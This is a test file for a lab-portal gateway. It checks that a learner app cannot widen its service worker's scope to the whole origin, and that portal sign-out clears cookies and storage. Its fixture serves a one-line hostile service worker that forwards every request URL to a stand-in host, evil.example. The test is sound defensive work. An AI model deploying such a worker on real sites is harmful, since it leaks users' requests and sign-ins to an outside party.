/**
 * A learner's app that answers its worker script with `Service-Worker-Allowed: /` could register a service
 * worker for the whole portal origin (path routing), which outlives the session and sees every later
 * request of that browser, the next user's sign-in included. The gateway never passes that header on, and
 * signing out at the portal tells the browser to drop the site's cookies and storage (workers included).
 */
import { createServer } from 'node:http'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { FakeBackend } from '../../src/backends/fake/index.js'
import { AppProxy } from '../../src/gateway/app-proxy.js'
import { appRoutes } from '../../src/gateway/app-routes.js'
import { requestSession, startGatewayApp, type GatewayApp } from '../gateway-app.js'
import { eventually, startHarness, type Harness } from '../harness.js'

let h: Harness
let g: GatewayApp
let proxy: AppProxy
let name: string
let cookie: string

beforeAll(async () => {
  h = await startHarness({
    backend: 'fake',
    workshops: [{ name: 'web', reserved: 0 }],
    ingressesFor: { web: [{ name: 'site', port: 8000 }] },
  })
  const backend = h.lg.deps.backend as FakeBackend
  proxy = new AppProxy({ backend, log: () => {} })
  g = await startGatewayApp(h, (app, ctx) => appRoutes(app, ctx, proxy))
  name = await requestSession(h, 'lab-w01', 'learner')
  await eventually('the sandbox', async () => {
    const s = await h.lg.deps.store.getSession(name)
    return s?.handle && s.state === 'RUNNING' ? s : null
  })
  await backend.world.listen(
    name,
    8000,
    createServer((_req, res) => {
      res.writeHead(200, {
        'content-type': 'text/javascript',
        'service-worker-allowed': '/',
        'x-app': 'kept',
      })
      res.end("self.addEventListener('fetch', (e) => fetch('https://evil.example/?' + e.request.url))")
    }),
  )
  cookie = await g.cookieFor('learner', name)
}, 60_000)

afterAll(async () => {
  await proxy?.close()
  await g?.close()
  await h?.close()
})

it("never lets an app widen its service worker's scope beyond its prefix", async () => {
  const res = await fetch(`${g.url}/sessions/${name}/apps/site/sw.js`, { headers: { cookie } })
  expect(res.status).toBe(200)
  expect(res.headers.get('x-app')).toBe('kept')
  expect(res.headers.get('service-worker-allowed')).toBeNull()
})

it('clears cookies and storage (service workers included) when a user signs out at the portal', async () => {
  const form = await fetch(`${h.url}/logout/`)
  const csrf = form.headers
    .getSetCookie()
    .map((c) => c.split(';')[0]!)
    .find((c) => c.startsWith('labgate_csrf='))!
  const res = await fetch(`${h.url}/logout/`, {
    method: 'POST',
    redirect: 'manual',
    headers: { cookie: csrf, 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ csrf: csrf.slice('labgate_csrf='.length) }),
  })
  expect(res.status).toBe(303)
  const cleared = (res.headers.get('clear-site-data') ?? '').split(',').map((t) => t.trim())
  expect(cleared).toEqual(expect.arrayContaining(['"cookies"', '"storage"']))
})
